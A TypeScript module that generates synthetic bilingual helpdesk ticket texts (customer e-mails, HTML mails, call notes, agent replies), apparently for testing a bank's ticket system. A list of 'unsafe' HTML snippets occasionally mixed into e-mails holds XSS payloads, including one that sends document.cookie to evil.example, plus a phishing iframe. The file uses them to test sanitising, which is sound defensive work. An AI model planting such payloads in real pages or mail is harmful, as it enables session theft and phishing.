import * as phrases from './phrases.js';
import type { Random } from './random.js';
import type { TicketContext } from './ticket-context.js';
import type { Localized } from './vocabulary.js';

/** Who signs a message: a customer of an institution, or an agent of a team. */
export interface Signer {
  name: string;
  organisation: string;
  phone: string;
}

/** Script an e-mail client must never run, and markup that must not survive sanitising. */
const unsafeSnippets = [
  '<script>alert("Kontor")</script>',
  '<img src="x" onerror="alert(document.cookie)">',
  '<a href="javascript:alert(1)">Abrechnung öffnen</a>',
  '<div onclick="fetch(\'https://evil.example/?c=\'+document.cookie)">Hier klicken</div>',
  '<iframe src="https://phish.example/login"></iframe>',
  '<style>body { display: none }</style>',
];

const disclaimer: Localized = [
  'Diese E-Mail kann vertrauliche Informationen enthalten. Wenn Sie nicht der richtige Adressat sind, informieren Sie bitte sofort den Absender.',
  'This e-mail may contain confidential information. If you are not the intended recipient, please notify the sender immediately.',
];

const escapeHtml = (text: string): string => text.replace(/&/gu, '&amp;').replace(/</gu, '&lt;').replace(/>/gu, '&gt;').replace(/"/gu, '&quot;');
const capitalise = (text: string): string => text.charAt(0).toUpperCase() + text.slice(1);

/** The bodies of one ticket's articles: letters, e-mails with HTML and quotes, call notes, portal messages. */
export class ArticleTexts {
  /** The last message the customer saw, quoted in their next e-mail. */
  private lastAgentMessage: string | null = null;

  constructor(private readonly random: Random, private readonly context: TicketContext, private readonly title: string) {}

  private say(pair: Localized, extra?: Record<string, string>): string {
    return this.context.say(pair, extra);
  }

  subject(kind: 'reply' | 'phone' | 'note', caller = ''): string {
    const de = this.context.language === 'de';
    if (kind === 'phone') return de ? `Telefonat mit ${caller}` : `Call with ${caller}`;
    // Notes are written in the bank's language, whatever the customer's.
    if (kind === 'note') return 'Interne Notiz';
    return `${de ? 'AW' : 'RE'}: ${this.title}`.slice(0, 250);
  }

  /** A customer's message: an e-mail (sometimes HTML, sometimes quoting us), a portal message or what they said on the phone. */
  customerMessage(channel: 'email' | 'portal' | 'phone', sentence: string, signer: Signer, options: { recordedBy?: string } = {}): string {
    const { random } = this;
    if (channel === 'phone') return `${this.say(random.pick(phrases.phoneSummaries), { caller: signer.name })}\n${this.quoteSpeech(sentence)}`;
    if (channel === 'portal') return `${capitalise(sentence)}\n\n${signer.name}`;
    const greeting = this.lastAgentMessage && random.chance(0.4) && options.recordedBy
      ? this.say(random.pick(phrases.personalGreetings), { name: options.recordedBy })
      : this.say(random.pick(phrases.customerGreetings));
    const closing = this.say(random.pick(phrases.closings));
    const quoted = this.lastAgentMessage !== null && random.chance(0.6) ? this.lastAgentMessage : null;
    if (random.chance(0.3)) return this.htmlMail(greeting, sentence, closing, signer, quoted);
    const body = `${greeting}\n\n${sentence}\n\n${closing}\n${signer.name}\n${signer.organisation}\nTel. ${signer.phone}`;
    return quoted === null ? body : `${body}\n\n${this.context.language === 'de' ? '-----Ursprüngliche Nachricht-----' : '-----Original Message-----'}\n${quoted.split('\n').map((line) => `> ${line}`).join('\n')}`;
  }

  private htmlMail(greeting: string, sentence: string, closing: string, signer: Signer, quoted: string | null): string {
    const unsafe = this.random.chance(0.05) ? this.random.pick(unsafeSnippets) : '';
    const quote = quoted === null ? '' : `<blockquote type="cite">${quoted.split('\n').map(escapeHtml).join('<br>')}</blockquote>`;
    return '<html><body>'
      + `<p>${escapeHtml(greeting)}</p><p>${escapeHtml(sentence)}</p>${unsafe}`
      + `<p>${escapeHtml(closing)}<br>${escapeHtml(signer.name)}<br><b>${escapeHtml(signer.organisation)}</b><br>Tel. ${escapeHtml(signer.phone)}</p>`
      + `<div class="signature" style="color:#777;font-size:8pt">${escapeHtml(this.say(disclaimer))}</div>`
      + `${quote}</body></html>`;
  }

  /** An agent's answer to the customer: a letter by e-mail or portal, or a note of what was said on the phone. */
  agentMessage(channel: 'email' | 'portal' | 'phone', sentences: readonly string[], agent: Signer, customerName: string, options: { thank?: 'written' | 'call'; colleague?: boolean } = {}): string {
    const { random } = this;
    // After the greeting's comma the first sentence starts in lower case, as German letters do; the others do not.
    const text = [options.thank ? this.say(random.pick(phrases.thanks[options.thank])) : '', ...sentences]
      .filter((part) => part !== '').map((part, index) => (index === 0 ? part : capitalise(part))).join(' ');
    let body: string;
    if (channel === 'phone') {
      body = `${this.context.language === 'de' ? `Rückruf bei ${customerName}, mitgeteilt:` : `Called ${customerName} back and told them:`}\n${this.quoteSpeech(text)}`;
    } else {
      const greeting = this.say(random.pick(options.colleague ? phrases.colleagueGreetings : phrases.agentGreetings), { name: customerName });
      body = `${greeting}\n\n${text}\n\n${this.say(random.pick(phrases.closings))}\n${agent.name}\n${agent.organisation}\nTel. ${agent.phone}`;
    }
    this.lastAgentMessage = body;
    return body;
  }

  private quoteSpeech(sentence: string): string {
    return this.context.language === 'de' ? `„${capitalise(sentence)}“` : `"${capitalise(sentence)}"`;
  }
}
